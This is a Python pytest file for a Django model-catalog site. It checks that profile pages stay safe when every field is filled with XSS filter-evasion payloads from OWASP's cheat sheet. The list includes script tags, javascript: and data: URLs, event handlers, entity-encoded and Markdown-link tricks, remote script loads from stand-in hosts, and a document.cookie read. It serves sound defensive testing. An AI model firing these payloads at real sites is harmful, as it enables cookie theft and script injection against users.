"""Script written into a profile never runs on its public page: payloads from OWASP's XSS filter evasion cheat
sheet in the Markdown article (sanitised by catalog.markdown) and in every plain-text field (autoescaped),
and what the browser would build from the page checked element by element."""

import datetime as dt
import json
import re
from html import unescape
from html.parser import HTMLParser

import pytest

from catalog.models import Profile

pytestmark = pytest.mark.django_db

PAGE = "/models/openai/gpt-4o/"

# https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html, and a few of the
# Markdown-specific ones every sanitiser of Markdown meets.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//<</SCRIPT>',
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '</script><script>alert("closes the JSON-LD")</script>',
    '"><script>alert("leaves an attribute")</script>',
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    "<BODY ONLOAD=alert('XSS')>",
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    "<svg/onload=alert('XSS')>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<iframe src=javascript:alert(1)>",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    "<STYLE>@import'http://x/xss.css';</STYLE>",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    '<XSS STYLE="behavior: url(xss.htc);">',
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://x/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x='20' y='20'>x</text></a></svg>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "![x](javascript:alert(1))",
    '[x](https://example.org "title" onmouseover="alert(1))',
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x][evil]\n\n[evil]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '![x](illustrations/x.svg "a caption <script>alert(1)</script>")',
]

SCRIPT_SCHEMES = ("javascript:", "vbscript:", "data:text/html")
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "data", "background", "poster", "lowsrc", "dynsrc", "srcset",
    "xlink:href", "codebase", "cite", "longdesc",
}  # fmt: skip
NOWHERE = {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "style", "math"}
# The page draws its price and score bars as SVG (a width attribute, where an inline style would break the CSP);
# an article never brings one, and an SVG's script, handlers and URLs are checked like any other.
NOT_IN_ARTICLE = NOWHERE | {
    "svg",
    "script",
    "form",
    "input",
    "button",
    "textarea",
    "select",
    "link",
    "meta",
    "details",
}
VOID = {
    "area",
    "base",
    "br",
    "col",
    "embed",
    "hr",
    "img",
    "input",
    "link",
    "meta",
    "param",
    "source",
    "track",
    "wbr",
}
# Data, never run: JSON-LD for search engines and each chart's figure (tokenledger.charts), which must parse.
DATA_BLOCKS = ("application/ld+json", "application/json")


def normalised(value: str) -> str:
    """An attribute value as a browser resolves a URL in it: entities decoded, controls and spaces dropped."""
    return re.sub(r"[\x00-\x20\x7f\s]", "", unescape(value)).lower()


class PageAudit(HTMLParser):
    """Every element of a page as the browser would build it, with what in it could run script."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.scripts: list[tuple[dict[str, str | None], str]] = []
        self.article_depth = 0  # inside <div class="article">: the rendered Markdown
        self._script: tuple[dict[str, str | None], str] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._check(tag, attrs)
        if self.article_depth and tag not in VOID:
            self.article_depth += 1
        elif tag == "div" and ("class", "article") in attrs:
            self.article_depth = 1
        if tag == "script":
            self._script = (dict(attrs), "")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._check(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        if self.article_depth and tag not in VOID:
            self.article_depth -= 1
        if tag == "script" and self._script is not None:
            self.scripts.append(self._script)
            self._script = None

    def handle_data(self, data: str) -> None:
        if self._script is not None:
            self._script = (self._script[0], self._script[1] + data)

    def _check(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in NOWHERE or (self.article_depth and tag in NOT_IN_ARTICLE):
            self.problems.append(f"<{tag}> element")
        if tag == "meta" and any(name == "http-equiv" for name, _ in attrs):
            self.problems.append("<meta http-equiv>")
        for name, value in attrs:
            value = normalised(value or "")
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}>: an event handler")
            elif name in URL_ATTRIBUTES and value.startswith(SCRIPT_SCHEMES):
                self.problems.append(f"<{tag} {name}={value!r}>: a script URL")
            elif name == "style" and (self.article_depth or "javascript:" in value or "expression(" in value):
                self.problems.append(f"<{tag} style={value!r}>: a style from the article, or script in one")

    def handle_comment(self, data: str) -> None:
        if self.article_depth:  # old Internet Explorer ran the markup in conditional comments
            self.problems.append(f"<!--{data[:40]}-->: a comment from the article")


def _is_json(text: str) -> bool:
    try:
        json.loads(text)
    except ValueError:
        return False
    return True


def audit(html: str) -> PageAudit:
    page = PageAudit()
    page.feed(html)
    page.close()
    for attrs, text in page.scripts:
        if attrs.get("type") in DATA_BLOCKS and _is_json(text):
            continue
        if attrs.get("src") and attrs["src"].startswith("/static/") and not text.strip():
            continue
        page.problems.append(f"<script {attrs}>{text[:80]}</script>: not one of the page's own scripts")
    return page


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        '<script src="https://evil.example/x.js"></script>',
        '<script type="text/javascript">window.PlotlyConfig = 1; alert(1)</script>',
        '<script type="application/json">{"data": []}; alert(1)</script>',
        "<img src=x onerror=alert(1)>",
        '<a href=" JaVa&#x09;Script:alert(1)">x</a>',
        '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
        '<iframe src="https://example.org"></iframe>',
        '<meta http-equiv="refresh" content="0;url=https://example.org">',
        '<div class="article"><p>x</p><form action="/"></form></div>',
        '<div class="article"><p style="color: red">x</p></div>',
        '<div class="article"><!--[if IE]><script>alert(1)</script><![endif]--></div>',
    ],
)
def test_the_audit_finds_what_it_looks_for(html):
    assert audit(html).problems


def write_into_every_field(payload: str) -> Profile:
    profile = Profile.objects.get(model__lab__slug="openai", model__slug="gpt-4o")
    profile.tagline = payload[:200]
    profile.summary = payload
    profile.strengths = [payload, "Widely hosted"]
    profile.weaknesses = [payload]
    profile.article = f"## Overview\n\nA paragraph before.\n\n{payload}\n\nA paragraph after [with a link](https://example.org)."
    profile.save()
    profile.faq.create(question=payload[:300], answer=payload, position=0)
    profile.verdicts.create(date=dt.date(2030, 1, 1), title=payload[:200], body=payload)
    return profile


def test_the_page_as_it_is_passes_the_audit(sample_data, reader):
    response = reader.get(PAGE)

    page = audit(response.content.decode())
    assert page.problems == []
    kinds = sorted(attrs.get("type") or attrs.get("src") or "inline" for attrs, _ in page.scripts)
    assert kinds == [
        "/static/js/charts.js",  # draws the price chart from its figure, a JSON data block: no inline script
        "/static/js/search.js",  # the header search's suggestions, on every page
        "/static/vendor/plotly-basic.min.js",
        "application/json",
        "application/ld+json",
    ]
    assert page.article_depth == 0


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_in_any_profile_field_cannot_run_script(sample_data, reader, payload):
    write_into_every_field(payload)

    response = reader.get(PAGE)

    assert response.status_code == 200
    html = response.content.decode()
    assert 'class="article"' in html
    page = audit(html)
    assert page.problems == []
    json_ld = [text for attrs, text in page.scripts if attrs.get("type") == "application/ld+json"]
    assert len(json_ld) == 1
    assert json.loads(json_ld[0])["description"] == payload  # escaped for the script element, and intact


def test_there_are_enough_payloads_to_mean_something():
    assert len(PAYLOADS) >= 25
    assert len(set(PAYLOADS)) == len(PAYLOADS)
